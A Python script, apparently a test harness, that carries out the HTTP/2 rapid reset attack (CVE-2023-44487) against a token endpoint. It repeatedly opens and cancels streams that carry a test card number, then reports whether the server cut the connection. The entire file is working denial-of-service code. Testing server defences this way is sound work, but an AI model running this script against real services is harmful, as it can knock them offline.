"""h2_rapid_reset.py HOST PORT KEY N MODE - HTTP/2 rapid reset (CVE-2023-44487)
against POST /v1/tokens on an h2c listener, with python3-h2 (Debian).

Opens one connection and, up to N times, opens a stream (HEADERS and a card
body) and resets it at once (RST_STREAM CANCEL). MODE 'full': the body ends
the stream before the reset (the request is complete); 'partial': the reset
comes before the body's end. The card is a well-known test number.
Prints: "sent=<streams sent> closed=<0|1> answered=<responses seen>".
"""
import json
import select
import socket
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.settings

host, port, key, n, mode = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4]), sys.argv[5]
body = json.dumps({"card": {"number": "4242424242424242", "exp_month": 12,
                            "exp_year": time.gmtime().tm_year + 2, "cvc": "123"}}).encode()
s = socket.create_connection((host, port), timeout=5)
conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
conn.initiate_connection()
conn.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 1 << 20})
s.sendall(conn.data_to_send())
closed = False
answered = 0
sent = 0


def pump(wait):
    """Reads what the server sent; returns False once it closed the connection."""
    global answered
    while True:
        r, _, _ = select.select([s], [], [], wait)
        if not r:
            return True
        try:
            data = s.recv(65536)
        except (ConnectionResetError, OSError):
            return False
        if not data:
            return False
        try:
            events = conn.receive_data(data)
        except h2.exceptions.ProtocolError:
            return False
        for ev in events:
            if isinstance(ev, h2.events.ResponseReceived):
                answered += 1
            if isinstance(ev, h2.events.ConnectionTerminated):
                return False
        out = conn.data_to_send()
        if out:
            try:
                s.sendall(out)
            except OSError:
                return False
        wait = 0


deadline = time.monotonic() + 20
for i in range(n):
    if time.monotonic() > deadline:
        break
    try:
        sid = conn.get_next_available_stream_id()
        conn.send_headers(sid, [(":method", "POST"), (":path", "/v1/tokens"), (":scheme", "http"),
                                (":authority", host), ("authorization", "Bearer " + key),
                                ("content-type", "application/json")])
        if mode == "full":
            conn.send_data(sid, body, end_stream=True)
        else:
            conn.send_data(sid, body[:20], end_stream=False)
        conn.reset_stream(sid)
        s.sendall(conn.data_to_send())
    except (h2.exceptions.ProtocolError, h2.exceptions.FlowControlError, OSError):
        closed = True
        break
    sent += 1
    if not pump(0):
        closed = True
        break
if not closed:
    # the server may cut the connection a moment later (its accounting runs every second)
    end = time.monotonic() + 4
    while time.monotonic() < end:
        if not pump(0.2):
            closed = True
            break
        try:
            conn.ping(b"12345678")
            s.sendall(conn.data_to_send())
        except (h2.exceptions.ProtocolError, OSError):
            closed = True
            break
print("sent=%d closed=%d answered=%d" % (sent, 1 if closed else 0, answered))
